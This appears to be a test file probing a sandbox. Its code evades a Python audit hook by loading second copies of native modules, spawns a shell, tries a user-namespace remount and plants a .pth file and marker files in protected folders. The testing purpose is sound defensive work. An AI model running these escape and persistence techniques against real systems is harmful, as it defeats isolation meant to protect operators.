"""Out of the sandbox (route 1): a second copy of a native module the audit hook does not watch, then a process
the Python guard never sees: it runs a shell, remounts the read-only view read-write as namespace root, and plants
a .pth file in the virtual environment, a file in the marker folder and in the checkout."""
# --- native access, as an attacker gets it: no import the tripwire sees ---------------------------------
import os
import sys


def native():
    """ctypes: the copy already loaded in this process, else a second copy of _ctypes under another name."""
    found = sys.modules.get("ctypes")
    if found is not None:
        return found
    import importlib.util

    lib = os.path.dirname(os.__file__) + "/lib-dynload"
    path = next(f"{lib}/{name}" for name in os.listdir(lib) if name.startswith("_ctypes."))
    spec = importlib.util.spec_from_file_location("hb_alias._ctypes", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    sys.modules["_ctypes"] = module
    spec = importlib.util.spec_from_file_location("hb_alias.ctypes", os.path.dirname(os.__file__) + "/ctypes/__init__.py")
    ctypes = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(ctypes)
    return ctypes


def libc():
    ctypes = native()
    return ctypes, ctypes.CDLL(None, use_errno=True)


def raw_write(path, data=b"x"):
    """open(2) and write(2) straight from libc: True when the file was written."""
    ctypes, c = libc()
    fd = c.open(path.encode(), 0o1 | 0o100 | 0o1000, 0o644)  # O_WRONLY | O_CREAT | O_TRUNC
    if fd < 0:
        return False
    c.write(fd, data, len(data))
    c.close(fd)
    return True


def raw_read(path, limit=1 << 20):
    ctypes, c = libc()
    fd = c.open(path.encode(), 0)
    if fd < 0:
        return None
    buffer = ctypes.create_string_buffer(limit)
    size = c.read(fd, buffer, limit)
    c.close(fd)
    return buffer.raw[: max(size, 0)]


def raw_exists(path):
    ctypes, c = libc()
    return c.access(path.encode(), 0) == 0


def raw_listdir(path):
    """Names in a folder through opendir(3)/readdir(3): no audit event."""
    ctypes, c = libc()

    class Dirent(ctypes.Structure):
        _fields_ = [("ino", ctypes.c_uint64), ("off", ctypes.c_int64), ("reclen", ctypes.c_ushort),
                    ("type", ctypes.c_ubyte), ("name", ctypes.c_char * 256)]

    c.opendir.restype = ctypes.c_void_p
    c.readdir.restype = ctypes.POINTER(Dirent)
    c.readdir.argtypes = [ctypes.c_void_p]
    c.closedir.argtypes = [ctypes.c_void_p]
    handle = c.opendir(path.encode())
    if not handle:
        return []
    names = []
    while True:
        entry = c.readdir(handle)
        if not entry:
            break
        name = entry.contents.name.decode(errors="replace")
        if name not in (".", ".."):
            names.append(name)
    c.closedir(handle)
    return names
# ------------------------------------------------------------------------------------------------------------

TARGETS = ["{SITE}/hb_{TOKEN}.pth", "{MARKER}/hb_{TOKEN}", "{CHECKOUT}/hb_{TOKEN}", "/tmp/hb_{TOKEN}"]


def second_posixsubprocess():
    import importlib.util

    lib = os.path.dirname(os.__file__) + "/lib-dynload"
    path = next(f"{lib}/{name}" for name in os.listdir(lib) if name.startswith("_posixsubprocess."))
    spec = importlib.util.spec_from_file_location("hb_copy._posixsubprocess", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_a_shell_through_a_second_native_copy():
    script = "; ".join(f"echo 'import os' > {target}" for target in TARGETS)
    try:
        module = second_posixsubprocess()
        read_end, write_end = os.pipe()
        pid = module.fork_exec(
            [b"/bin/sh", b"-c", script.encode()], [b"/bin/sh"], True, (write_end,), None, None,
            -1, -1, -1, -1, -1, -1, read_end, write_end, False, False, -1, None, None, None, -1, None, False,
        )
        os.close(write_end)
        os.read(read_end, 4096)
        os.waitpid(pid, 0)
    except Exception:
        pass
    assert True


def test_namespace_root_remounts_the_view():
    ctypes, c = libc()
    pid = c.fork()
    if pid == 0:
        c.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
        for target in TARGETS:
            folder = os.path.dirname(target)
            c.mount(None, folder.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND, without MS_RDONLY
            c.mount(b"none", b"/", None, 32, None)
            raw_write(target, b"import os\n")
        c._exit(0)
    if pid > 0:
        c.waitpid(pid, None, 0)
    assert not any(raw_exists(target) for target in TARGETS[:3])
